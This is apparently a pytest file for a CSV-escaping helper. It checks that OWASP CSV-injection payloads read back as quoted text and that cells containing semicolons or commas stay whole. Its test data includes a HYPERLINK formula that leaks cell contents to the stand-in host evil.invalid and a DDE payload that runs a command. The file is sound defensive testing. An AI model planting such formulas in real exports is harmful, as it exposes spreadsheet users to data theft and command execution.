"""The one CSV helper (hotline.core.csv): OWASP's CSV-injection payloads stay text, ';' and ',' stay in one cell."""

from __future__ import annotations

import csv
import io

import pytest

from hotline.core import csv as safe_csv

# OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): its example payloads, and the
# characters it names (=, +, -, @, tab, carriage return), with the line feed and NUL of issue 12.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.invalid?leak="&A1&A2, "Error fetching info: Click me to resolve.")',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",  # issue 12: a line feed was not neutralised
    "\x00=1+2",  # issue 12: neither was NUL
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_payload_reads_back_as_text_starting_with_a_quote(payload: str) -> None:
    line = safe_csv.format_row(["Anna", payload])
    (row,) = list(csv.reader(io.StringIO(line)))
    assert row == ["Anna", "'" + payload]


@pytest.mark.parametrize(
    ("value", "line"),
    [
        ("Anna;=1+2", '"Anna;=1+2"\r\n'),  # issue 12: Swedish Excel splits on ';' and ran the second cell
        ("Anna, Stockholm", '"Anna, Stockholm"\r\n'),
        ('Say "hi"', '"Say ""hi"""\r\n'),
        ("two\nlines", '"two\nlines"\r\n'),
        (" padded ", '" padded "\r\n'),
        ("Anna=1", "Anna=1\r\n"),
        ("Åsa Öberg", "Åsa Öberg\r\n"),
        (None, "\r\n"),
        (5, "5\r\n"),
    ],
)
def test_cells_that_would_split_are_quoted(value: object, line: str) -> None:
    assert safe_csv.format_row([value]) == line


def test_semicolon_splitting_reader_sees_one_cell() -> None:
    """Read the way a Swedish spreadsheet reads: ';' as the separator. The quoted cell stays whole."""
    line = safe_csv.format_row(["Anna;=1+2"])
    (row,) = list(csv.reader(io.StringIO(line), delimiter=";"))
    assert row == ["Anna;=1+2"]


def test_rows_written_to_a_file(tmp_path) -> None:
    path = tmp_path / "out.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        for row in [["a", "=b"], ["c;d", None]]:
            f.write(safe_csv.format_row(row))
    assert path.read_bytes().decode("utf-8") == 'a,\'=b\r\n"c;d",\r\n'
